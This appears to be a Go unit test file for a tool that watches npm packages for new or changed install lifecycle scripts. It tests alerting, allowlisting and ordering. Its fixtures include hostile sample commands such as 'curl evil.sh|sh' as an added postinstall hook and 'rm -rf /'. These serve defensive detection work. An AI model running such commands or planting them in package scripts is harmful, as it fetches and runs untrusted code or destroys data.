package diff

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/git-pkgs/scriptwatch/internal/core"
)

func doc(scripts map[string]string) core.VersionDoc {
	return core.VersionDoc{Scripts: scripts}
}

func nodeGyp(cmd string) bool { return cmd == "node-gyp rebuild" }

func TestDiffScenarios(t *testing.T) {
	e := New(WithAllowlist(nodeGyp))

	tests := []struct {
		name     string
		latest   core.VersionDoc
		previous *core.VersionDoc
		want     []core.Alert
	}{
		{
			name:     "added postinstall",
			latest:   doc(map[string]string{"postinstall": "curl evil.sh|sh"}),
			previous: &core.VersionDoc{Scripts: map[string]string{"test": "jest"}},
			want:     []core.Alert{{ScriptType: "postinstall", Action: core.ActionAdded, NewCommand: "curl evil.sh|sh"}},
		},
		{
			name:     "benign previous becomes added",
			latest:   doc(map[string]string{"install": "node x.js"}),
			previous: &core.VersionDoc{Scripts: map[string]string{"install": "node-gyp rebuild"}},
			want:     []core.Alert{{ScriptType: "install", Action: core.ActionAdded, NewCommand: "node x.js"}},
		},
		{
			name:     "allowlisted latest",
			latest:   doc(map[string]string{"install": "node-gyp rebuild"}),
			previous: nil,
			want:     nil,
		},
		{
			name:     "changed",
			latest:   doc(map[string]string{"preinstall": "node b.js"}),
			previous: &core.VersionDoc{Scripts: map[string]string{"preinstall": "node a.js"}},
			want:     []core.Alert{{ScriptType: "preinstall", Action: core.ActionChanged, NewCommand: "node b.js", OldCommand: "node a.js"}},
		},
		{
			name:     "unchanged",
			latest:   doc(map[string]string{"postinstall": "node a.js"}),
			previous: &core.VersionDoc{Scripts: map[string]string{"postinstall": "node a.js"}},
			want:     nil,
		},
		{
			name:     "removed script",
			latest:   doc(nil),
			previous: &core.VersionDoc{Scripts: map[string]string{"postinstall": "node a.js"}},
			want:     nil,
		},
		{
			name:     "whitespace is blank",
			latest:   doc(map[string]string{"postinstall": "   "}),
			previous: nil,
			want:     nil,
		},
		{
			name:     "blank previous is added",
			latest:   doc(map[string]string{"postinstall": "node a.js"}),
			previous: &core.VersionDoc{Scripts: map[string]string{"postinstall": " "}},
			want:     []core.Alert{{ScriptType: "postinstall", Action: core.ActionAdded, NewCommand: "node a.js"}},
		},
		{
			name:     "non-lifecycle scripts ignored",
			latest:   doc(map[string]string{"test": "rm -rf /", "prepare": "tsc"}),
			previous: nil,
			want:     nil,
		},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			assert.Equal(t, tt.want, e.Diff(tt.latest, tt.previous))
		})
	}
}

func TestDiffPriorityOrder(t *testing.T) {
	latest := doc(map[string]string{
		"postinstall": "node c.js",
		"install":     "node b.js",
		"preinstall":  "node a.js",
	})

	alerts := New().Diff(latest, nil)
	require.Len(t, alerts, 3)
	assert.Equal(t, "preinstall", alerts[0].ScriptType)
	assert.Equal(t, "install", alerts[1].ScriptType)
	assert.Equal(t, "postinstall", alerts[2].ScriptType)

	custom := New(WithScripts("postinstall", "preinstall")).Diff(latest, nil)
	require.Len(t, custom, 2)
	assert.Equal(t, "postinstall", custom[0].ScriptType)
	assert.Equal(t, "preinstall", custom[1].ScriptType)
}

func TestDiffIdempotent(t *testing.T) {
	e := New(WithAllowlist(nodeGyp))
	latest := doc(map[string]string{"install": "node x.js", "postinstall": "sh run.sh"})
	previous := &core.VersionDoc{Scripts: map[string]string{"install": "node-gyp rebuild"}}

	first := e.Diff(latest, previous)
	second := e.Diff(latest, previous)
	assert.Equal(t, first, second)
}

func TestDiffEqualDocsNeverAlert(t *testing.T) {
	e := New()
	for _, scripts := range []map[string]string{
		nil,
		{"preinstall": "a", "install": "b", "postinstall": "c"},
		{"postinstall": "node install.js"},
	} {
		d := doc(scripts)
		assert.Empty(t, e.Diff(d, &d))
	}
}

func TestAllowlistedCommandNeverAdded(t *testing.T) {
	benign := func(cmd string) bool { return strings.HasPrefix(cmd, "node-gyp") }
	e := New(WithAllowlist(benign))

	previous := []*core.VersionDoc{
		nil,
		{Scripts: map[string]string{"install": "node evil.js"}},
		{Scripts: map[string]string{"install": "node-gyp build"}},
	}
	for _, prev := range previous {
		alerts := e.Diff(doc(map[string]string{"install": "node-gyp rebuild"}), prev)
		assert.Empty(t, alerts)
	}
}
